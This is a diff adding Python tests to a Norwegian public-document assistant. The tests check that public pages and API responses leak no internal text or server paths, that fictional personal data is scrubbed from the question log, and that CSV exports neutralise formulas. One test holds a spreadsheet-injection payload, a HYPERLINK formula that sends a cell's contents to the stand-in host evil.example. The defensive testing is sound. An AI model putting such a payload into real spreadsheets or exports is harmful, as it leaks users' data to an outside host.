@@ -288,3 +288,53 @@ def test_public_document_pages_hide_internal_documents(anon, corpus_assistant, s
         else:
             assert response.status_code == 200
         assert_clean(response.text, secret_runs)
+
+
+def test_published_answers_page_holds_no_internal_text(anon, secret_runs):
+    """/qa lists public qa documents only (an internal qa document is tested in tests/api/test_qa.py)."""
+    response = anon.get("/qa")
+    assert response.status_code == 200 and "Spørsmål og svar" in response.text
+    assert_clean(response.text, secret_runs)
+    for name in ("Eksempel Bolig", "Testbyggern", "Fiktiv Eiendomsutvikling"):
+        assert name not in response.text
+
+
+# --- issue 11: what the adversarial probe found --------------------------------------------------
+
+
+def test_public_responses_show_no_server_paths(anon, corpus_assistant):
+    from tests.conftest import ROOT
+
+    docs = anon.get("/api/documents").json()["documents"]
+    chat = anon.post("/api/chat", json={"question": "Når var dialogkonferansen?"}).json()
+    hits = anon.get("/api/search", params={"q": "dialogkonferansen", "k": 20}).json()["hits"]
+    sources = [d["source"] for d in docs] + [c["source"] for c in chat["citations"]] + [h["source"] for h in hits]
+    assert sources and all(not s.startswith("/") and str(ROOT) not in s for s in sources)
+    assert all(s.startswith("corpus/public/") for s in sources)
+
+
+PROBE_PERSONAL = ("010190 123 45", "01 01 90 123 45", "010190-12345", "906.72.754", "1234 56 78903",
+                  "ola(at)example.no", "NO93 8601 1117 947")
+
+
+def test_the_probes_personal_data_never_reaches_the_question_log(anon, caseworker):
+    question = "Hva er fristen? Kontakt: " + ", ".join(PROBE_PERSONAL) + ". Jeg heter Ola Nordmann, Storgata 5."
+    answer = anon.post("/api/chat", json={"question": question}).json()
+    anon.post("/api/feedback", json={"answer_id": answer["answer_id"], "vote": "down", "comment": question})
+    logged = json.dumps(caseworker.get("/api/questions", params={"limit": 500}).json(), ensure_ascii=False)
+    for raw in (*PROBE_PERSONAL, "Ola Nordmann", "Storgata 5", "NO93"):
+        assert raw not in logged, raw
+
+
+def test_a_formula_question_is_logged_as_text_for_spreadsheets(anon, corpus_assistant, tmp_path):
+    import csv
+    import io
+
+    from assistant.questionlog import QuestionLog
+
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")'
+    assert anon.post("/api/chat", json={"question": formula}).status_code == 200
+    out = io.StringIO()
+    QuestionLog(corpus_assistant.settings.db_url).export_csv(out)
+    cells = [row["question"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
+    assert "'" + formula in cells and formula not in cells
